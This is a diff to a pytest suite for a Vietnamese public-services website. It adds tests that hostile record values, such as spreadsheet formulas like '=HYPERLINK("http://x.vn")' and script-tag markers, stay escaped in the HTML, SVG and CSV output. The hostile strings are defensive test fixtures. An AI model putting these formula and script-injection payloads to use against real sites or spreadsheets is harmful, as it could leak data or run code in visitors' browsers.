@@ -33,7 +33,8 @@ from cchc.tthc import export
 # Filters whose output is safe in markup whatever went in: escaping ones (the site's `url`
 # escapes, hooks/site.py), JSON for <script> blocks (Jinja's tojson writes < > & ' as \u…),
 # a URL-encoded query value, dates and counts.
-SAFE_FILTERS = {"e", "escape", "url", "tojson", "url_param", "vn_date", "vn_datetime", "length", "int"}
+SAFE_FILTERS = {"e", "escape", "url", "tojson", "url_param", "vn_date", "vn_datetime", "length", "int",
+                "so", "ty_le"}  # figures of /tthc/ket-qua/: digits, "." "," "%" or fixed words (cchc.results.words)
 # Printed as they are on purpose: HTML the site made itself, and numbers.
 TRUSTED = {
     "page.content",  # Markdown converted by MkDocs, then sanitised for content pages (hooks/site.py)
@@ -287,6 +288,19 @@ def make_hostile(project: Project) -> Project:
     project.write("content/tthc/1.000001.yml", OTHER_RECORD)
     project.write(f"content/tthc/quyet-dinh/{FILE_PAYLOAD}.pdf", b"%PDF-1.4\n%%EOF\n")
     project.write("content/tthc/quyet-dinh/qd-10-ubnd-2024.yml", DECISION)
+    # A month of results: the field's name reaches the charts (SVG), the tables, the CSV and the feed.
+    project.write("content/ket-qua/2024-10.yml", f"""\
+        source: {q('=HYPERLINK("http://x.vn")' + PAYLOAD)}
+        fields:
+          - field: linh-vuc-doc
+            carried_over: 1
+            received_online: 5
+            received_direct: 2
+            settled_on_time: 6
+            settled_late: 1
+            pending_on_time: 1
+            pending_overdue: 0
+        """)
     return project
 
 
@@ -314,7 +328,8 @@ def test_the_hostile_site_has_every_kind_of_page(hostile):
                 "chuyen-muc/chuyen-muc-doc/index.html", "hoi-dap/index.html", "lien-he/index.html",
                 "tim-kiem/index.html", "tthc/index.html", "tthc/1.004616/index.html", "tthc/ten-cu/index.html",
                 "tthc/linh-vuc/linh-vuc-doc/index.html", "tthc/so-tay/index.html", "tthc/thay-doi/index.html",
-                "tthc/quyet-dinh/qd-10-ubnd-2024/index.html", "404.html", "admin/index.html"]
+                "tthc/quyet-dinh/qd-10-ubnd-2024/index.html", "tthc/ket-qua/index.html",
+                "tthc/ket-qua/2024/index.html", "404.html", "admin/index.html"]
     for name in expected:
         page = (hostile / name).read_text(encoding="utf-8")
         assert "data-hostile" in page or name == "tim-kiem/index.html", name  # the search page shows no record
@@ -329,7 +344,7 @@ RAW = ["<i data-hostile", "<i/data-hostile", "<script src=/e.js", "<script/src=/
 @pytest.mark.build
 def test_no_payload_survives_unescaped_in_any_page(hostile):
     found = []
-    for path in [*_pages(hostile), *hostile.rglob("*.xml")]:
+    for path in [*_pages(hostile), *hostile.rglob("*.xml"), *hostile.rglob("*.svg")]:
         text = path.read_text(encoding="utf-8")
         found += [f"{path.relative_to(hostile)}: {raw}" for raw in RAW if raw in text]
     assert not found, "\n".join(found)
@@ -419,13 +434,21 @@ def test_csv_cells_cannot_be_formulas_and_codes_stay_text(hostile, name):
     assert cells and not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
 
 
+@pytest.mark.build
+def test_results_csv_cells_cannot_be_formulas(hostile):
+    rows = list(csv.reader(io.StringIO((hostile / "tthc/ket-qua/ket-qua.csv").read_text(encoding="utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any("data-hostile" in cell for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+
+
 @pytest.mark.parametrize("value, cell", [
     ('=HYPERLINK("http://x.vn/?"&A1;"Bấm")', "'=HYPERLINK(\"http://x.vn/?\"&A1;\"Bấm\")"),
     ("+84 1900", "'+84 1900"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("Cấp giấy phép", "Cấp giấy phép"), ("'đã có", "'đã có"), ("", ""),
 ])
 def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(value, cell):
-    assert export._spreadsheet_text(value) == cell
+    assert export.spreadsheet_text(value) == cell
 
 
 @pytest.mark.parametrize("code, cell", [
@@ -435,7 +458,7 @@ def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(value, cell):
     ('1.0"&HYPERLINK("x")&"', '1.0"&HYPERLINK("x")&"'), ("=1.004616", "'=1.004616"), ("1.004616\n=1", "1.004616\n=1"),
 ])
 def test_a_code_that_looks_like_a_number_is_kept_as_text(code, cell):
-    assert export._spreadsheet_text(code, code=True) == cell
+    assert export.spreadsheet_text(code, code=True) == cell
 
 
 @pytest.mark.build
